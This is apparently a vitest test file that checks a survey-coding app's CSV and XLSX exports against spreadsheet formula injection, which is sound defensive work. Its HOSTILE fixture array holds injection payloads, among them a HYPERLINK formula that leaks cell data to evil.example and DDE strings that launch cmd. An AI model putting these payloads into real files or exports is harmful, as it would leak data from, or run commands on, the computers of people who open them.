/**
 * Hostile answer texts through every spreadsheet export. In a CSV, each text
 * cell that starts with = + - @, tab or CR is prefixed with an apostrophe;
 * numbers are not. In the workbook the text stays verbatim, typed as a string
 * (never a formula) with the quote-prefix style.
 */
import { describe, expect, it } from 'vitest';
import { answerId } from '../model/types';
import { longCsvToString } from './csv-long';
import { csvChunks, csvFileName, csvText } from './csv-stream';
import { wideCsvToString } from './csv-wide';
import type { ExportSource } from './source';
import { parseCsv, sampleSource } from './test-data';
import { projectWorkbook } from './workbook-export';
import { readCells, readGrid, unzipParts } from './xlsx-test-helpers';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];

function hostileSource(): ExportSource {
  const base = sampleSource();
  const answers = HOSTILE.map((text, i) => ({
    id: answerId('q-rewards', 'baseline', `=R${i}`),
    questionId: 'q-rewards',
    waveId: 'baseline',
    respondentId: `=R${i}`,
    text,
  }));
  return {
    ...base,
    project: { name: '=evil' },
    attributes: [{ name: '@role', order: 0, values: [] }],
    respondents: answers.map((a) => ({ id: a.respondentId, attributes: { '@role': '-mentor' } })),
    answers,
    codes: [{ ...base.codes[2], name: '+Rewards' }],
    coders: [{ id: 'alice', name: '=Alice' }],
    codings: answers.map((a, i) => ({ id: `k${i}`, answerId: a.id, codeId: 'rewards', coderId: 'alice', start: null, end: null })),
    themes: [{ id: 't', name: '-Theme', description: '', codeIds: ['rewards'], withSubcodes: true, order: 0 }],
  };
}

const DANGEROUS = /^[=+\-@\t\r]/;

describe('formula injection', () => {
  it('neutralises every text cell of the long CSV, and leaves numbers alone', () => {
    const source = hostileSource();
    source.codings = source.codings.map((c, i) => (i === 0 ? { ...c, start: 0, end: 5 } : c));
    const rows = parseCsv(longCsvToString(source));
    expect(rows[0]).toEqual(['respondent', "'@role", 'question', 'wave', 'code', 'themes', 'coder', 'quote', 'start', 'end', 'exemplar', 'origin']);
    for (const row of rows) for (const cell of row) expect(DANGEROUS.test(cell)).toBe(false);
    expect(rows.slice(1).map((r) => r[7])).toEqual(["'=HYPE", ...HOSTILE.slice(1).map((t) => `'${t}`)]);
    expect(rows[1].slice(0, 7)).toEqual(["'=R0", "'-mentor", 'Rewards', 'Baseline', "'+Rewards", "'-Theme", "'=Alice"]);
    expect(rows[1].slice(8, 10)).toEqual(['0', '5']);
  });

  it('neutralises every text cell of the wide CSV', () => {
    const rows = parseCsv(wideCsvToString(hostileSource()));
    expect(rows[0].at(-1)).toBe("'+Rewards");
    for (const row of rows) for (const cell of row) expect(DANGEROUS.test(cell)).toBe(false);
    expect(rows.slice(1).map((r) => r.at(-1))).toEqual(HOSTILE.map(() => '1'));
  });

  it('writes every text verbatim in a raw CSV (neutraliseFormulas: false), named "-raw.csv"', () => {
    const source = hostileSource();
    const long = parseCsv(longCsvToString(source, { neutraliseFormulas: false }));
    expect(long[0][1]).toBe('@role');
    expect(long.slice(1).map((r) => r[7])).toEqual(HOSTILE);
    expect(long[1].slice(0, 7)).toEqual(['=R0', '-mentor', 'Rewards', 'Baseline', '+Rewards', '-Theme', '=Alice']);
    const wide = parseCsv(wideCsvToString(source, { neutraliseFormulas: false }));
    expect(wide[0].at(-1)).toBe('+Rewards');
    expect(wide.slice(1).map((r) => r[4])).toEqual(HOSTILE);
    // The default stays neutralised, and says so in neither name nor content.
    expect(
      parseCsv(wideCsvToString(source, { neutraliseFormulas: true }))
        .slice(1)
        .map((r) => r[4]),
    ).toEqual(HOSTILE.map((t) => `'${t}`));
    expect(csvFileName('study-codings')).toBe('study-codings.csv');
    expect(csvFileName('study-codings', { neutraliseFormulas: true })).toBe('study-codings.csv');
    expect(csvFileName('study-codings', { neutraliseFormulas: false })).toBe('study-codings-raw.csv');
  });

  it('streams a raw CSV chunk by chunk the same as whole', () => {
    const table = { header: ['a'], rows: [['-2+3'], ['+44 20 7946 0958'], [-1]] };
    expect([...csvChunks(table, { rowsPerChunk: 1, neutraliseFormulas: false })].join('')).toBe('a\r\n-2+3\r\n+44 20 7946 0958\r\n-1\r\n');
    expect(csvText(table)).toBe("a\r\n'-2+3\r\n'+44 20 7946 0958\r\n-1\r\n");
  });

  it('keeps every text cell of the workbook verbatim, as a string with the quote prefix, and numbers numeric', () => {
    const parts = unzipParts(projectWorkbook(hostileSource()));
    for (const name of ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml', 'xl/worksheets/sheet3.xml']) {
      expect(parts[name]).not.toMatch(/<f[\s>]/);
      for (const cell of readCells(parts[name])) {
        if (cell.type !== 'inlineStr') continue;
        expect(cell.value.startsWith("'")).toBe(false);
        if (DANGEROUS.test(cell.value)) expect(['2', '3']).toContain(cell.style);
      }
    }
    const answers = readGrid(parts['xl/worksheets/sheet2.xml']);
    expect(answers.slice(1).map((r) => r[4])).toEqual(HOSTILE);
    expect(answers.slice(1).map((r) => r.at(-1))).toEqual(HOSTILE.map(() => 1));
    expect(parts['xl/styles.xml']).toContain('quotePrefix="1"');
  });
});
